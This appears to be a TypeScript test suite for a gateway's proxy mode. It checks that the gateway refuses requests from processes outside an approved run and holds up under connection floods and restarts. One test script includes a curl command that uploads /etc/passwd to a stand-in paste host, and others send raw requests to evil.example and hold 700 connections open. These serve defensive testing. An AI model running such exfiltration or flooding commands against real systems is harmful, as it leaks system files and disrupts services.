import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { once } from "node:events";
import { existsSync, writeFileSync } from "node:fs";
import { connect } from "node:net";
import { dirname, join } from "node:path";
import { text } from "node:stream/consumers";
import { after, before, test } from "node:test";
import { approveRun } from "./support/box.ts";
import { asUser, demoPack, type Gateway, GW, Home, makeFolder, SECRET, start, until, within } from "./support/home.ts";
import { startProvider, type TestProvider } from "./support/provider.ts";

/** `gw run --proxy`: tools as they are, through the wrapper as their proxy. The real gateway, the real wrapper, no box. */
let home: Home;
let gateway: Gateway;
let provider: TestProvider;
const skip = asUser;

before(async () => {
  if ("skip" in skip) return;
  provider = await startProvider();
  home = await new Home(makeFolder()).init();
  await home.addCredential("demo-token", provider.origin);
  await home.trustPack(
    "demo",
    demoPack(provider.origin).replace("  network: private\n", "  network: private\n  token_variables: [DEMO_TOKEN]\n"),
  );
  gateway = await home.up();
});
after(async () => {
  await gateway?.end("SIGTERM");
  await provider?.close();
});

function startProxied(script: string) {
  return start([GW, "--home", home.folder, "run", "--proxy", "--", "sh", "-c", script], { env: home.environment() });
}

test("tools use the proxy as they are, and the card says that nothing contains them", skip, async () => {
  const fetching = `fetch("${provider.origin}/v1/things/8").then((one) => one.text()).then(console.log)`;
  const go = join(dirname(home.folder), "go");
  const run = startProxied(
    `curl -sS -H "authorization: Bearer $DEMO_TOKEN" ${provider.origin}/v1/things/7; echo; ${process.execPath} -e '${fetching}'
curl -sS -o /dev/null -w '%{http_code}\\n' https://paste.example/upload -d @/etc/passwd
curl -sS -o /dev/null -w '%{http_code}\\n' -x "$(echo $http_proxy | sed 's/gw:[0-9a-f]*@/gw:0000@/')" ${provider.origin}/v1/things/7
curl -sS -o /dev/null -w '%{http_connect}\\n' -x "$(echo $http_proxy | sed 's/gw:[0-9a-f]*@//')" https://paste.example/ 2>/dev/null
echo $CURL_CA_BUNDLE; echo $http_proxy; while [ ! -e ${go} ]; do sleep 0.1; done`,
  );
  const card = await approveRun(home, run);
  assert.match(card, /NOT CONTAINED/);
  assert.equal(card.includes("no other network"), false);
  await until("it waits", () => run.out().includes("http://gw:"));
  const [seven = "", eight = "", ...lines] = run.out().trim().split("\n");
  assert.deepEqual(
    [JSON.parse(seven), JSON.parse(eight)].map(({ url }) => url),
    ["/v1/things/7", "/v1/things/8"],
  );
  assert.deepEqual(lines.slice(0, 3), ["403", "407", "407"]);
  assert.deepEqual(
    provider.received.map(({ headers }) => headers["authorization"]),
    [`Bearer ${SECRET}`, `Bearer ${SECRET}`],
  );
  // This test has the token too, and was not started by the run.
  const told = execFileSync("curl", ["-sS", "-i", "-x", lines[4] ?? "", `${provider.origin}/v1/things/9`], {
    encoding: "utf8",
    env: { PATH: process.env["PATH"] },
  });
  assert.match(told, /403 Refused by gw - box_request_refused/);
  assert.match(told, /a process that this run did not start/);
  writeFileSync(go, "");
  const { code, err } = await within(run.exited, 120_000, "it ends");
  assert.equal(code, 0, err);
  assert.equal(provider.received.length, 2);
  assert.equal(existsSync(lines[3] ?? ""), false, "its certificate is gone with it");
  const reasons = (await home.events("call_denied")).map(({ reason }) => String(reason));
  assert.ok(
    reasons.some((reason) => reason.includes("did not start")),
    reasons.join("; "),
  );
  const both = await home.run(["run", "--proxy", "--contain", "--", "true"]);
  assert.equal(both.code, 2, both.err);
});

test("a process that the run did not start is refused from the port of one that it did, too", skip, async () => {
  const go = join(dirname(home.folder), "gone");
  const holding = `const { hostname, port } = new URL(process.env.http_proxy); const { connect } = require("node:net");
for (let at = 0; at < ${PORTS}; at++) { const socket = connect(port, hostname, () => console.log(socket.localPort)); }
console.log(process.env.http_proxy); setInterval(() => require("node:fs").existsSync("${go}") && process.exit(), 100);`;
  const before = provider.received.length;
  const run = startProxied(`${process.execPath} -e '${holding}'`);
  await approveRun(home, run);
  await until("it holds its connections", () => run.out().trim().split("\n").length === PORTS + 1);
  const [proxy = "", ...ports] = run.out().trim().split("\n");
  const { hostname, port, username, password } = new URL(proxy);
  const authorization = Buffer.from(`${username}:${password}`).toString("base64");
  const asked = `GET ${provider.origin}/v1/things/9 HTTP/1.1\r\nhost: ${new URL(provider.origin).host}\r\nproxy-authorization: Basic ${authorization}\r\nconnection: close\r\n\r\n`;
  // Which of two connections from like ports the kernel lists first is chance.
  for (const localPort of ports.map(Number)) {
    for (let last = 2; last <= 12; last++) {
      const from = { localAddress: `127.0.0.${last}`, localPort };
      const socket = connect({ host: hostname, port: Number(port), ...from });
      socket.write(asked);
      assert.match(await text(socket), /a process that this run did not start/, from.localAddress);
    }
  }
  assert.equal(provider.received.length, before);
  writeFileSync(go, "");
  await within(run.exited, 120_000, "it ends");
});

test(
  "what a process sends that the run did not start, and that knows no token, is not told of the run",
  skip,
  async () => {
    const go = join(dirname(home.folder), "over");
    const before = (await home.events("call_denied")).length;
    const run = startProxied(`echo $http_proxy; while [ ! -e ${go} ]; do sleep 0.1; done`);
    await approveRun(home, run);
    await until("it waits", () => run.out().includes("http://gw:"));
    const { hostname, port } = new URL(run.out().trim());
    const upgrade = "GET / HTTP/1.1\r\nhost: evil.example\r\nconnection: upgrade\r\nupgrade: websocket\r\n\r\n";
    for (const [asked, answer] of [
      [upgrade, /^HTTP\/1.1 407 /],
      ["GET http://evil.example/ HTTP/1.1\r\nhost: evil.example\r\n\r\n", /^HTTP\/1.1 407 /],
      ["CONNECT evil.example:443 HTTP/1.1\r\nhost: evil.example\r\n\r\n", /^HTTP\/1.1 407 /],
      ["no request at all\r\n\r\n", /^$/],
    ] as const) {
      const socket = connect(Number(port), hostname);
      socket.write(asked);
      const [told] = (await Promise.race([once(socket, "data"), once(socket, "close").then(() => [""])])) as [unknown];
      assert.match(String(told), answer, asked);
      socket.destroy();
    }
    writeFileSync(go, "");
    const { err } = await within(run.exited, 120_000, "it ends");
    assert.doesNotMatch(err, /refused:/);
    assert.equal((await home.events("call_denied")).length, before);
  },
);

test(
  "whoever holds as many connections as there are keeps the tools of the run out of nothing, and the run from no end",
  skip,
  async () => {
    const folder = makeFolder();
    const go = join(folder, "go");
    const asked = `curl -sS -m 20 ${provider.origin}/v1/things/7`;
    const run = startProxied(`echo $http_proxy; while [ ! -e ${go} ]; do sleep 0.1; done; ${asked}; echo; ${asked}`);
    await approveRun(home, run);
    await until("it waits", () => run.out().includes("http://gw:"));
    const { hostname, port } = new URL(run.out().trim());
    // Silent, in the middle of a head, and refused without hanging up: none of them is of the run.
    const said = [
      "",
      "GET http://evil.example/ HTTP/1.1\r\n",
      "CONNECT evil.example:443 HTTP/1.1\r\nhost: evil.example\r\n\r\n",
    ];
    const held = Array.from({ length: CROWD }, (_, index) => {
      const socket = connect({ port: Number(port), host: hostname, allowHalfOpen: true });
      socket.on("error", () => undefined).write(said[index % said.length] ?? "");
      return socket;
    });
    await Promise.all(held.map((socket) => socket.connecting && once(socket, "connect").catch(() => undefined)));
    writeFileSync(go, "");
    const { code, err } = await within(run.exited, 60_000, "it ends");
    for (const socket of held) socket.destroy();
    assert.equal(code, 0, err);
    const [, ...answers] = run.out().trim().split("\n");
    assert.deepEqual(
      answers.map((text) => JSON.parse(text).url),
      ["/v1/things/7", "/v1/things/7"],
    );
  },
);

/** More than there are seats. */
const CROWD = 700;
const PORTS = 5;

test("a gateway that is away has sent nothing, and one that came back says that the run is over", skip, async () => {
  const folder = makeFolder();
  const gone = join(folder, "gone");
  const back = join(folder, "back");
  const fetching = `curl -sS -i ${provider.origin}/v1/things/7`;
  const run = startProxied(
    `echo ready; while [ ! -e ${gone} ]; do sleep 0.1; done; ${fetching}; echo; echo asked; while [ ! -e ${back} ]; do sleep 0.1; done; ${fetching}`,
  );
  await approveRun(home, run);
  await until("it waits", () => run.out().includes("ready"));
  const before = provider.received.length;
  await gateway.end("SIGTERM");
  writeFileSync(gone, "");
  await until("it was told", () => run.out().includes("asked"));
  assert.match(run.out(), /403 Refused by gw - gateway_unreachable[\s\S]*Nothing was sent\. No gateway answers at/);
  assert.equal(run.out().includes("may have been sent"), false);
  gateway = await home.up();
  writeFileSync(back, "");
  await within(run.exited, 120_000, "it ends");
  assert.match(run.out(), /403 Refused by gw - run_ended[\s\S]*begin anew with gw run/);
  assert.equal(provider.received.length, before);
});
